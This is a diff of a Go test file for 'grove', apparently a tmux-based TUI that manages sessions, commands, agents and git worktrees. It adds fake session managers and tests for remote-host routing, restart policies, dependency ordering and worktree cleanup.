@@ -1,9 +1,14 @@
 package ui
 
 import (
+	"errors"
+	"fmt"
+	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
 	"time"
 
@@ -11,6 +16,11 @@ import (
 
 	"github.com/SarthakJariwala/grove/internal/config"
 	"github.com/SarthakJariwala/grove/internal/configfile"
+	"github.com/SarthakJariwala/grove/internal/logfile"
+	"github.com/SarthakJariwala/grove/internal/manifest"
+	"github.com/SarthakJariwala/grove/internal/seen"
+	"github.com/SarthakJariwala/grove/internal/stops"
+	"github.com/SarthakJariwala/grove/internal/taskrun"
 	"github.com/SarthakJariwala/grove/internal/tmux"
 )
 
@@ -23,6 +33,14 @@ type trackingSessionManager struct {
 	commands []string
 	sentTo   []string
 	sentCmds []string
+	pressed  []string
+	options  []string
+	envs     [][]string
+	logPaths []string
+	renamed  []string
+	dirs     []string
+
+	detachKeys string
 }
 
 func (f *trackingSessionManager) LoadSnapshot() (tmux.SessionSnapshot, error) {
@@ -38,24 +56,46 @@ func (f *trackingSessionManager) ListSessions() ([]tmux.Session, error) { return
 
 func (f *trackingSessionManager) ListPanes() ([]tmux.PaneInfo, error) { return nil, nil }
 
-func (f *trackingSessionManager) NewSession(name, cwd string) error {
+func (f *trackingSessionManager) NewSession(name, cwd string, env []string) error {
 	f.created = append(f.created, name)
+	f.dirs = append(f.dirs, cwd)
+	f.envs = append(f.envs, env)
 	return nil
 }
 
-func (f *trackingSessionManager) NewSessionWithCommand(name, cwd, command string) error {
+func (f *trackingSessionManager) NewSessionWithCommand(name, cwd, command string, env []string) error {
 	f.launched = append(f.launched, name)
 	f.commands = append(f.commands, command)
+	f.dirs = append(f.dirs, cwd)
+	f.envs = append(f.envs, env)
 	return nil
 }
 
+func (f *trackingSessionManager) NewCommandSession(name, cwd, command string, env []string, logPath string) error {
+	f.logPaths = append(f.logPaths, logPath)
+	return f.NewSessionWithCommand(name, cwd, command, env)
+}
+
 func (f *trackingSessionManager) SendKeys(target, command string) error {
 	f.sentTo = append(f.sentTo, target)
 	f.sentCmds = append(f.sentCmds, command)
 	return nil
 }
 
-func (f *trackingSessionManager) RenameSession(oldName, newName string) error { return nil }
+func (f *trackingSessionManager) PressKeys(target string, keys []string) error {
+	f.pressed = append(f.pressed, target+" "+strings.Join(keys, " "))
+	return nil
+}
+
+func (f *trackingSessionManager) SetSessionOption(target, option, value string) error {
+	f.options = append(f.options, target+" "+option+"="+value)
+	return nil
+}
+
+func (f *trackingSessionManager) RenameSession(oldName, newName string) error {
+	f.renamed = append(f.renamed, oldName+" -> "+newName)
+	return nil
+}
 
 func (f *trackingSessionManager) KillSession(name string) error {
 	f.killed = append(f.killed, name)
@@ -67,11 +107,47 @@ func (f *trackingSessionManager) CapturePane(target string) (string, error) {
 	return "", nil
 }
 
+func (f *trackingSessionManager) PeekPane(target string) (string, error) {
+	return f.CapturePane(target)
+}
+
 func (f *trackingSessionManager) AttachCommand(name string) *exec.Cmd {
 	f.attached = append(f.attached, name)
 	return exec.Command("sh", "-c", "true")
 }
 
+func (f *trackingSessionManager) DetachKeys(name string) string {
+	if f.detachKeys != "" {
+		return f.detachKeys
+	}
+	return "Ctrl-b d"
+}
+
+type fakeWorktreeManager struct {
+	added   []string
+	removed []string
+	deleted []string
+}
+
+func (f *fakeWorktreeManager) IsRepo(dir string) bool { return true }
+
+func (f *fakeWorktreeManager) Add(repo, path, branch string) error {
+	f.added = append(f.added, path+"@"+branch)
+	return nil
+}
+
+func (f *fakeWorktreeManager) Remove(repo, path string) error {
+	f.removed = append(f.removed, path)
+	return nil
+}
+
+func (f *fakeWorktreeManager) BranchExists(repo, branch string) bool { return false }
+
+func (f *fakeWorktreeManager) DeleteBranch(repo, branch string) error {
+	f.deleted = append(f.deleted, branch)
+	return nil
+}
+
 func TestUpdateSlashOpensFilterPrompt(t *testing.T) {
 	t.Parallel()
 
@@ -132,7 +208,7 @@ func TestTickCmdUsesShortGlobalRefreshInterval(t *testing.T) {
 		t.Fatalf("refreshInterval = %v, want %v", refreshInterval, 500*time.Millisecond)
 	}
 
-	cmd := tickCmd()
+	cmd := tickCmd(refreshInterval)
 	if cmd == nil {
 		t.Fatal("expected tick command")
 	}
@@ -226,14 +302,14 @@ func TestUpdateKillConfirmFlow(t *testing.T) {
 
 	model, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'K'}})
 	withConfirm := model.(Model)
-	if withConfirm.confirmKillTarget != "api/one" {
-		t.Fatalf("confirmKillTarget = %q, want %q", withConfirm.confirmKillTarget, "api/one")
+	if len(withConfirm.confirmKillTargets) != 1 || withConfirm.confirmKillTargets[0].sessionName != "api/one" {
+		t.Fatalf("confirmKillTargets = %+v, want api/one", withConfirm.confirmKillTargets)
 	}
 
 	model2, cmd := withConfirm.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'y'}})
 	afterConfirm := model2.(Model)
-	if afterConfirm.confirmKillTarget != "" {
-		t.Fatalf("confirmKillTarget = %q, want empty", afterConfirm.confirmKillTarget)
+	if afterConfirm.confirmKillTargets != nil {
+		t.Fatalf("confirmKillTargets = %+v, want none", afterConfirm.confirmKillTargets)
 	}
 	if cmd == nil {
 		t.Fatalf("expected kill command")
@@ -743,9 +819,9 @@ func TestUpdateXStopsRunningCommand(t *testing.T) {
 		t.Fatal("expected stop command")
 	}
 	msg := cmd()
-	res, ok := msg.(actionResultMsg)
-	if !ok || res.err != nil {
-		t.Fatalf("stop result = %#v, want successful actionResultMsg", msg)
+	stopped, ok := msg.(commandsStoppedMsg)
+	if !ok || stopped.result.err != nil {
+		t.Fatalf("stop result = %#v, want successful commandsStoppedMsg", msg)
 	}
 	if len(fake.killed) != 1 || fake.killed[0] != "api/cmd-start" {
 		t.Fatalf("killed sessions = %#v, want [api/cmd-start]", fake.killed)
@@ -816,8 +892,8 @@ func TestUpdateRRestartsCommandSession(t *testing.T) {
 		t.Fatal("expected restart command")
 	}
 	msg := cmd()
-	res, ok := msg.(actionResultMsg)
-	if !ok || res.err != nil || res.attachTarget != "" {
+	stopped, ok := msg.(commandsStoppedMsg)
+	if !ok || stopped.result.err != nil || stopped.result.attachTarget != "" {
 		t.Fatalf("restart result = %#v, want successful background start", msg)
 	}
 	if len(fake.killed) != 1 || fake.killed[0] != "api/cmd-start" {
@@ -947,7 +1023,7 @@ func TestUpdatePreviewQTreatsAsBack(t *testing.T) {
 func TestPreviewEnterAttachesPreviewSession(t *testing.T) {
 	t.Parallel()
 
-	fake := &trackingSessionManager{}
+	fake := &trackingSessionManager{detachKeys: `Ctrl-\`}
 	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", fake)
 	m.sessions = map[int][]tmux.Session{0: {{Name: "api/one"}}}
 	m.rebuildRows()
@@ -966,4 +1042,1781 @@ func TestPreviewEnterAttachesPreviewSession(t *testing.T) {
 	if len(fake.attached) != 1 || fake.attached[0] != "api/one" {
 		t.Fatalf("attached targets = %#v, want [api/one]", fake.attached)
 	}
+	if want := `attached to api/one (detach with Ctrl-\)`; got.statusMsg != want {
+		t.Fatalf("statusMsg = %q, want %q", got.statusMsg, want)
+	}
+}
+
+// watchingSessionManager pushes the changes sent on its channel.
+type watchingSessionManager struct {
+	trackingSessionManager
+	changes chan tmux.Changes
+}
+
+func (f *watchingSessionManager) Watch() error { return nil }
+
+func (f *watchingSessionManager) NextChange() (tmux.Changes, bool) {
+	changes, ok := <-f.changes
+	return changes, ok
+}
+
+func TestPushedOutputRefreshesPreviewInsteadOfPolling(t *testing.T) {
+	t.Parallel()
+
+	fake := &watchingSessionManager{changes: make(chan tmux.Changes, 1)}
+	m := NewModel(config.Config{}, "config.toml", fake)
+	m.detailMode = detailPreview
+	m.previewSession = "api/one"
+	m.previewWindow = -1
+
+	model, cmd := m.Update(m.watchCmd()())
+	m = model.(Model)
+	if !m.watching || cmd == nil {
+		t.Fatalf("watching = %v, want watch loop started", m.watching)
+	}
+
+	model, _ = m.Update(previewTickMsg{})
+	m = model.(Model)
+	if m.previewInFlight {
+		t.Fatal("preview tick captured while tmux pushes output")
+	}
+
+	fake.changes <- tmux.Changes{Output: true}
+	msg := m.nextChangeCmd()()
+	model, cmd = m.Update(msg)
+	m = model.(Model)
+	if !m.previewInFlight || cmd == nil {
+		t.Fatal("pushed output did not start a preview capture")
+	}
+
+	close(fake.changes)
+	model, _ = m.Update(m.nextChangeCmd()())
+	m = model.(Model)
+	if m.watching {
+		t.Fatal("watching = true after the connection closed, want polling fallback")
+	}
+	model, _ = m.Update(paneCapturedMsg{target: "api/one", seq: m.previewSeq})
+	m = model.(Model)
+	model, cmd = m.Update(previewTickMsg{})
+	m = model.(Model)
+	if !m.previewInFlight || cmd == nil {
+		t.Fatal("preview tick did not capture after falling back to polling")
+	}
+}
+
+// unreachableSessionManager fails to load while err is set.
+type unreachableSessionManager struct {
+	runningSessionManager
+	err error
+}
+
+func (f *unreachableSessionManager) LoadSnapshot() (tmux.SessionSnapshot, error) {
+	if f.err != nil {
+		return tmux.SessionSnapshot{}, f.err
+	}
+	return f.runningSessionManager.LoadSnapshot()
+}
+
+func TestRemoteFolderSessionsAreRoutedToTheirHost(t *testing.T) {
+	t.Parallel()
+
+	cfg := config.Config{Folders: []config.Folder{
+		{Name: "API", Path: "/tmp/api", Namespace: "api"},
+		{Name: "VM", Path: "/srv/app", Host: "devbox", Namespace: "vm", Commands: []config.Command{{Name: "web", Command: "make web"}}},
+	}}
+	local := &runningSessionManager{sessions: []tmux.Session{{Name: "api/term-1"}, {Name: "vm/term-1"}}}
+	remote := &unreachableSessionManager{runningSessionManager: runningSessionManager{sessions: []tmux.Session{{Name: "vm/agent-claude-1"}, {Name: "api/term-2"}}}}
+	hosts := newHostSessions(local, func(host string) SessionManager {
+		if host != "devbox" {
+			t.Errorf("remote client for host %q, want devbox", host)
+		}
+		return remote
+	})
+	hosts.setFolders(cfg.Folders)
+	m := NewModel(cfg, "config.toml", local)
+	m.client = hosts
+
+	model, _ := m.Update(m.loadSessionsCmd()())
+	m = model.(Model)
+	if got := sessionNames(m.sessions[0]) + " | " + sessionNames(m.sessions[1]); got != "api/term-1 | vm/agent-claude-1" {
+		t.Fatalf("sessions = %s, want each folder's sessions from its own server", got)
+	}
+
+	if msg := m.startCommandsCmd(cfg.Folders[1], cfg.Folders[1].Commands, "started web")().(actionResultMsg); msg.err != nil {
+		t.Fatalf("start remote command error = %v", msg.err)
+	}
+	m.killSessionCmd("vm/agent-claude-1")()
+	if strings.Join(remote.launched, ",") != "vm/cmd-web" || len(remote.logPaths) != 1 || remote.logPaths[0] != "" || strings.Join(remote.killed, ",") != "vm/agent-claude-1" {
+		t.Fatalf("remote client = %+v, want the command started without a log and the agent killed", remote.trackingSessionManager)
+	}
+	if len(local.launched) != 0 || len(local.killed) != 0 {
+		t.Fatalf("local client = %+v, want no calls", local.trackingSessionManager)
+	}
+
+	remote.err = errors.New("ssh: connect to host devbox: Connection refused")
+	msg := m.loadSessionsCmd()().(sessionsLoadedMsg)
+	if msg.panesFresh {
+		t.Fatal("panesFresh = true with an unreachable host")
+	}
+	model, _ = m.Update(msg)
+	m = model.(Model)
+	if got := sessionNames(m.sessions[1]); got != "vm/agent-claude-1" {
+		t.Fatalf("remote sessions after failure = %s, want the last snapshot", got)
+	}
+	if !strings.Contains(m.errMsg, "devbox: ssh: connect") {
+		t.Fatalf("errMsg = %q, want the host's error", m.errMsg)
+	}
+}
+
+// waitingSessionManager loads once ready is closed, after closing its own
+// started channel.
+type waitingSessionManager struct {
+	runningSessionManager
+	started chan struct{}
+	ready   chan struct{}
+}
+
+func (f *waitingSessionManager) LoadSnapshot() (tmux.SessionSnapshot, error) {
+	close(f.started)
+	select {
+	case <-f.ready:
+	case <-time.After(2 * time.Second):
+		return tmux.SessionSnapshot{}, errors.New("waited for another host")
+	}
+	return f.runningSessionManager.LoadSnapshot()
+}
+
+func TestHostsAreQueriedTogether(t *testing.T) {
+	t.Parallel()
+
+	cfg := config.Config{Folders: []config.Folder{
+		{Name: "A", Path: "/srv/a", Host: "a", Namespace: "a"},
+		{Name: "B", Path: "/srv/b", Host: "b", Namespace: "b"},
+	}}
+	a := &waitingSessionManager{runningSessionManager: runningSessionManager{sessions: []tmux.Session{{Name: "a/term-1"}}}, started: make(chan struct{})}
+	b := &waitingSessionManager{runningSessionManager: runningSessionManager{sessions: []tmux.Session{{Name: "b/term-1"}}}, started: make(chan struct{})}
+	// Each host answers only once the other has been asked.
+	a.ready, b.ready = b.started, a.started
+	hosts := newHostSessions(&runningSessionManager{}, func(host string) SessionManager {
+		if host == "a" {
+			return a
+		}
+		return b
+	})
+	hosts.setFolders(cfg.Folders)
+
+	snapshot, err := hosts.LoadSnapshot()
+	if err != nil || len(snapshot.Sessions) != 2 {
+		t.Fatalf("LoadSnapshot() = %+v, %v, want both hosts' sessions", snapshot.Sessions, err)
+	}
+}
+
+// closingSessionManager records when it is closed.
+type closingSessionManager struct {
+	runningSessionManager
+	closed int
+}
+
+func (f *closingSessionManager) Close() error {
+	f.closed++
+	return nil
+}
+
+func TestRemoteHostsAreClosedWhenUnused(t *testing.T) {
+	t.Parallel()
+
+	folders := []config.Folder{
+		{Name: "A", Path: "/srv/a", Host: "a", Namespace: "a"},
+		{Name: "B", Path: "/srv/b", Host: "b", Namespace: "b"},
+	}
+	remotes := map[string]*closingSessionManager{}
+	hosts := newHostSessions(&runningSessionManager{}, func(host string) SessionManager {
+		remotes[host] = &closingSessionManager{}
+		return remotes[host]
+	})
+	hosts.setFolders(folders)
+	hosts.setFolders(folders[1:])
+	if remotes["a"].closed != 1 || remotes["b"].closed != 0 {
+		t.Fatalf("closed a=%d b=%d after a left the config, want only a closed", remotes["a"].closed, remotes["b"].closed)
+	}
+
+	m := NewModel(config.Config{Folders: folders[1:]}, "config.toml", &runningSessionManager{})
+	m.client = hosts
+	if err := m.Close(); err != nil {
+		t.Fatalf("Close() error = %v", err)
+	}
+	if remotes["a"].closed != 1 || remotes["b"].closed != 1 {
+		t.Fatalf("closed a=%d b=%d after Close, want each host closed once", remotes["a"].closed, remotes["b"].closed)
+	}
+}
+
+func TestRefreshTickSkipsPollWhileOneIsLoading(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", &runningSessionManager{})
+	m.watching = true
+	model, _ := m.Update(time.Now())
+	m = model.(Model)
+	if !m.polling {
+		t.Fatal("polling = false after a refresh tick")
+	}
+	if msg := m.pollSessionsCmd()().(sessionsLoadedMsg); !msg.poll {
+		t.Fatal("poll result is not marked as a poll")
+	}
+
+	model, _ = m.Update(time.Now())
+	m = model.(Model)
+	model, _ = m.Update(sessionsLoadedMsg{sessions: map[int][]tmux.Session{}, panesFresh: true})
+	m = model.(Model)
+	if !m.polling {
+		t.Fatal("another load ended the tick's poll")
+	}
+	model, _ = m.Update(sessionsLoadedMsg{sessions: map[int][]tmux.Session{}, panesFresh: true, poll: true})
+	m = model.(Model)
+	if m.polling {
+		t.Fatal("polling = true after the poll loaded")
+	}
+}
+
+func sessionNames(sessions []tmux.Session) string {
+	names := make([]string, len(sessions))
+	for i, session := range sessions {
+		names[i] = session.Name
+	}
+	return strings.Join(names, ",")
+}
+
+func TestAgentPickerWLaunchesAgentInWorktree(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	worktrees := &fakeWorktreeManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Agents:    []config.Agent{{Name: "Codex", Command: "codex"}},
+	}}}, "config.toml", fake)
+	m.worktrees = worktrees
+	m.rebuildRows()
+
+	model, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'a'}})
+	model, cmd := model.(Model).Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'w'}})
+	withPrompt := model.(Model)
+	if cmd == nil || withPrompt.promptMode != promptAgentWorktreeBranch {
+		t.Fatalf("promptMode = %v, cmd=%v; want promptAgentWorktreeBranch with blink", withPrompt.promptMode, cmd)
+	}
+	if got := withPrompt.prompt.Value(); got != "grove/codex-1" {
+		t.Fatalf("default branch = %q, want grove/codex-1", got)
+	}
+
+	model, cmd = withPrompt.Update(tea.KeyMsg{Type: tea.KeyEnter})
+	if cmd == nil {
+		t.Fatal("expected agent launch command")
+	}
+	res, ok := cmd().(actionResultMsg)
+	if !ok || res.err != nil || res.attachTarget != "api/agent-codex-1" {
+		t.Fatalf("agent result = %#v, want attachTarget api/agent-codex-1", res)
+	}
+
+	wantPath := filepath.Join("/tmp/api", ".grove", "worktrees", "agent-codex-1")
+	if len(worktrees.added) != 1 || worktrees.added[0] != wantPath+"@grove/codex-1" {
+		t.Fatalf("added worktrees = %#v, want %s@grove/codex-1", worktrees.added, wantPath)
+	}
+	if len(fake.options) != 1 || fake.options[0] != "api/agent-codex-1 @grove_worktree="+wantPath {
+		t.Fatalf("session options = %#v, want worktree recorded on session", fake.options)
+	}
+}
+
+// optionFailingSessionManager creates sessions but cannot set their options.
+type optionFailingSessionManager struct {
+	trackingSessionManager
+}
+
+func (f *optionFailingSessionManager) SetSessionOption(target, option, value string) error {
+	return errors.New("set-option failed")
+}
+
+func TestFailedWorktreeAgentLaunchCleansUp(t *testing.T) {
+	t.Parallel()
+
+	fake := &optionFailingSessionManager{}
+	worktrees := &fakeWorktreeManager{}
+	folder := config.Folder{Name: "API", Path: "/tmp/api", Namespace: "api"}
+	m := NewModel(config.Config{Folders: []config.Folder{folder}}, "config.toml", fake)
+	m.worktrees = worktrees
+
+	res := m.newAgentCmd(0, folder, config.Agent{Name: "Codex", Command: "codex"}, false, "grove/codex-1")().(actionResultMsg)
+	if res.err == nil {
+		t.Fatal("launch error = nil, want the set-option failure")
+	}
+	wantPath := filepath.Join("/tmp/api", ".grove", "worktrees", "agent-codex-1")
+	if strings.Join(fake.killed, ",") != "api/agent-codex-1" {
+		t.Fatalf("killed = %v, want the half-launched session", fake.killed)
+	}
+	if strings.Join(worktrees.removed, ",") != wantPath || strings.Join(worktrees.deleted, ",") != "grove/codex-1" {
+		t.Fatalf("removed = %v, deleted = %v, want the worktree and its new branch gone", worktrees.removed, worktrees.deleted)
+	}
+}
+
+func TestKillConfirmWRemovesAgentWorktree(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	worktrees := &fakeWorktreeManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", fake)
+	m.worktrees = worktrees
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/agent-codex-1", Worktree: "/tmp/api/.grove/worktrees/agent-codex-1"}}}
+	m.rebuildRows()
+	m.setSelected(1)
+
+	model, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'K'}})
+	withConfirm := model.(Model)
+	if !strings.Contains(withConfirm.renderFooter(), "remove worktree") {
+		t.Fatalf("footer = %q, want worktree removal offer", withConfirm.renderFooter())
+	}
+
+	model, cmd := withConfirm.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'w'}})
+	if model.(Model).confirmKillTargets != nil {
+		t.Fatal("expected kill confirmation to close")
+	}
+	if cmd == nil {
+		t.Fatal("expected kill command")
+	}
+	if res, ok := cmd().(actionResultMsg); !ok || res.err != nil {
+		t.Fatalf("kill result = %#v, want success", res)
+	}
+	if len(fake.killed) != 1 || fake.killed[0] != "api/agent-codex-1" {
+		t.Fatalf("killed = %#v, want [api/agent-codex-1]", fake.killed)
+	}
+	if len(worktrees.removed) != 1 || worktrees.removed[0] != "/tmp/api/.grove/worktrees/agent-codex-1" {
+		t.Fatalf("removed worktrees = %#v, want agent worktree", worktrees.removed)
+	}
+}
+
+func TestStartCommandPassesFolderAndCommandEnv(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Env:       map[string]string{"RAILS_ENV": "development", "PORT": "3000"},
+		Commands: []config.Command{{
+			Name:    "start",
+			Command: "make start",
+			Env:     map[string]string{"PORT": "4000"},
+		}},
+	}}}, "config.toml", fake)
+	m.rebuildRows()
+	m.setSelected(1)
+
+	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'s'}})
+	if cmd == nil {
+		t.Fatal("expected start command")
+	}
+	if res, ok := cmd().(actionResultMsg); !ok || res.err != nil {
+		t.Fatalf("start result = %#v, want success", res)
+	}
+	if len(fake.commands) != 1 || fake.commands[0] != "make start" {
+		t.Fatalf("launch commands = %#v, want unwrapped make start", fake.commands)
+	}
+	if got := strings.Join(fake.envs[0], " "); got != "PORT=4000 RAILS_ENV=development" {
+		t.Fatalf("launch env = %q, want command env over folder env", got)
+	}
+}
+
+func TestUpdateSStartsStoppedDependenciesFirst(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands: []config.Command{
+			{Name: "web", Command: "make web", DependsOn: []string{"db", "redis"}},
+			{Name: "db", Command: "make db"},
+			{Name: "redis", Command: "make redis"},
+		},
+	}}}, "config.toml", fake)
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/cmd-redis", CurrentCommand: "redis-server"}}}
+	m.rebuildRows()
+	m.setSelected(1) // [0]=folder, [1]=web
+
+	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'s'}})
+	if cmd == nil {
+		t.Fatal("expected start command")
+	}
+	res, ok := cmd().(actionResultMsg)
+	if !ok || res.err != nil {
+		t.Fatalf("start result = %#v, want success", res)
+	}
+	if got := strings.Join(fake.launched, ","); got != "api/cmd-db,api/cmd-web" {
+		t.Fatalf("launched = %s, want db before web and running redis skipped", got)
+	}
+	if res.status != "started db, web" {
+		t.Fatalf("status = %q, want started db, web", res.status)
+	}
+}
+
+func TestUpdateShiftSStartsFolderGraphInOrder(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands: []config.Command{
+			{Name: "web", Command: "make web", DependsOn: []string{"api"}},
+			{Name: "api", Command: "make api", DependsOn: []string{"db"}},
+			{Name: "db", Command: "make db"},
+		},
+	}}}, "config.toml", fake)
+	m.rebuildRows()
+	m.setSelected(0)
+
+	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'S'}})
+	if cmd == nil {
+		t.Fatal("expected start-all command")
+	}
+	if res, ok := cmd().(actionResultMsg); !ok || res.err != nil {
+		t.Fatalf("start-all result = %#v, want success", res)
+	}
+	if got := strings.Join(fake.launched, ","); got != "api/cmd-db,api/cmd-api,api/cmd-web" {
+		t.Fatalf("launched = %s, want topological order", got)
+	}
+}
+
+func runningCommandSessions(names ...string) sessionsLoadedMsg {
+	sessions := make([]tmux.Session, 0, len(names))
+	for _, name := range names {
+		sessions = append(sessions, tmux.Session{Name: name, CurrentCommand: "make"})
+	}
+	return sessionsLoadedMsg{
+		sessions:       map[int][]tmux.Session{0: sessions},
+		sessionWindows: map[string][]int{},
+		activeWindows:  map[string]int{},
+		panesFresh:     true,
+	}
+}
+
+func TestRestartPolicyRelaunchesExitedCommand(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands:  []config.Command{{Name: "start", Command: "make start", Restart: config.RestartAlways}},
+	}}}, "config.toml", fake)
+	m.stopsPath = filepath.Join(t.TempDir(), "stops.json")
+
+	model, _ := m.Update(runningCommandSessions("api/cmd-start"))
+	model, cmd := model.(Model).Update(runningCommandSessions())
+	m = model.(Model)
+	state := m.restarts["api/cmd-start"]
+	if cmd == nil || state.nextRestart.IsZero() || state.lastExit.IsZero() {
+		t.Fatalf("restart state = %#v, want a scheduled restart", state)
+	}
+
+	model, cmd = m.Update(commandRestartMsg{sessionName: "api/cmd-start", seq: state.seq})
+	m = model.(Model)
+	if cmd == nil {
+		t.Fatal("expected relaunch command")
+	}
+	if res, ok := cmd().(actionResultMsg); !ok || res.err != nil || res.status != "restarted start (1)" {
+		t.Fatalf("relaunch result = %#v, want restarted start (1)", res)
+	}
+	if got := strings.Join(fake.launched, ","); got != "api/cmd-start" {
+		t.Fatalf("launched = %s, want api/cmd-start", got)
+	}
+	if got := m.restarts["api/cmd-start"].restarts; got != 1 {
+		t.Fatalf("restarts = %d, want 1", got)
+	}
+}
+
+func TestRestartPolicyIgnoresCommandStoppedFromGrove(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands:  []config.Command{{Name: "start", Command: "make start", Restart: config.RestartAlways}},
+	}}}, "config.toml", fake)
+
+	model, _ := m.Update(runningCommandSessions("api/cmd-start"))
+	m = model.(Model)
+	m.setSelected(1)
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'x'}})
+	model, _ = model.(Model).Update(runningCommandSessions())
+	m = model.(Model)
+
+	if state := m.restarts["api/cmd-start"]; !state.nextRestart.IsZero() || !state.lastExit.IsZero() {
+		t.Fatalf("restart state = %#v, want no restart after manual stop", state)
+	}
+}
+
+func TestRestartPolicyIgnoresCommandStoppedByAnotherGrove(t *testing.T) {
+	t.Parallel()
+
+	cfg := config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands:  []config.Command{{Name: "start", Command: "make start", Restart: config.RestartAlways}},
+	}}}
+	stopsPath := filepath.Join(t.TempDir(), "stops.json")
+	m := NewModel(cfg, "config.toml", &trackingSessionManager{})
+	m.stopsPath = stopsPath
+
+	model, _ := m.Update(runningCommandSessions("api/cmd-start"))
+	m = model.(Model)
+	// grove stop, run from another terminal, records the stop as it begins.
+	cli := NewModel(cfg, "config.toml", &trackingSessionManager{})
+	cli.stopsPath = stopsPath
+	cli.sessions = map[int][]tmux.Session{0: {{Name: "api/cmd-start", CurrentCommand: "make"}}}
+	if err := cli.cliStop("api/start", io.Discard); err != nil {
+		t.Fatalf("cliStop() error = %v", err)
+	}
+	model, _ = m.Update(runningCommandSessions())
+	m = model.(Model)
+	if state := m.restarts["api/cmd-start"]; !state.nextRestart.IsZero() || !state.stopped {
+		t.Fatalf("restart state = %#v, want the CLI stop honoured", state)
+	}
+
+	// Starting the command again puts it back under supervision.
+	if err := m.launchCommand(m.cfg.Folders[0], m.cfg.Folders[0].Commands[0]); err != nil {
+		t.Fatalf("launchCommand() error = %v", err)
+	}
+	if stopped, err := stops.Load(m.stopsPath); err != nil || len(stopped) != 0 {
+		t.Fatalf("stops = %v, %v, want the stop cleared on start", stopped, err)
+	}
+}
+
+func TestStopSendsStopKeysAndWaitsForExit(t *testing.T) {
+	t.Parallel()
+
+	cfg := cliTestConfig()
+	cfg.Folders[0].Commands[1].StopCommand = "q"
+	cfg.Folders[0].Commands[1].StopTimeout = 50 * time.Millisecond
+	cfg.Folders[0].Commands[1].Restart = config.RestartAlways
+	fake := &runningSessionManager{sessions: []tmux.Session{{Name: "api/cmd-db"}, {Name: "api/cmd-web"}}}
+	m := NewModel(cfg, "config.toml", fake)
+	model, _ := m.Update(runningCommandSessions("api/cmd-db", "api/cmd-web"))
+	m = model.(Model)
+	selectSession := func(name string) treeRow {
+		for i, row := range m.rows {
+			if row.sessionName == name {
+				m.setSelected(i)
+				return row
+			}
+		}
+		t.Fatalf("no row for %s in %+v", name, m.rows)
+		return treeRow{}
+	}
+
+	row := selectSession("api/cmd-web")
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'R'}})
+	m = model.(Model)
+	if detail := stripANSI(strings.Join(m.commandDetailLines(row, 60), "\n")); !strings.Contains(detail, "stopping…") {
+		t.Fatalf("detail = %q, want the stopping state", detail)
+	}
+	// The exit while stopping is not a crash for the restart policy.
+	model, _ = m.Update(runningCommandSessions("api/cmd-db"))
+	m = model.(Model)
+	if state := m.restarts["api/cmd-web"]; !state.nextRestart.IsZero() {
+		t.Fatalf("restart state = %#v, want no automatic restart while stopping", state)
+	}
+	msg := cmd().(commandsStoppedMsg)
+	if msg.result.err != nil || msg.result.status != "restarted web" {
+		t.Fatalf("restart result = %+v, want restarted web", msg.result)
+	}
+	if strings.Join(fake.sentCmds, ",") != "q" || len(fake.pressed) != 0 {
+		t.Fatalf("sent %v and pressed %v, want only the stop command", fake.sentCmds, fake.pressed)
+	}
+	if strings.Join(fake.killed, ",") != "api/cmd-web" || strings.Join(fake.launched, ",") != "api/cmd-web" {
+		t.Fatalf("killed %v and launched %v, want web killed after its timeout and relaunched", fake.killed, fake.launched)
+	}
+	model, _ = m.Update(msg)
+	m = model.(Model)
+	if m.isStopping("api/cmd-web") {
+		t.Fatal("web still stopping after its restart finished")
+	}
+
+	model, _ = m.Update(runningCommandSessions("api/cmd-db", "api/cmd-web"))
+	m = model.(Model)
+	selectSession("api/cmd-db")
+	model, cmd = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'x'}})
+	m = model.(Model)
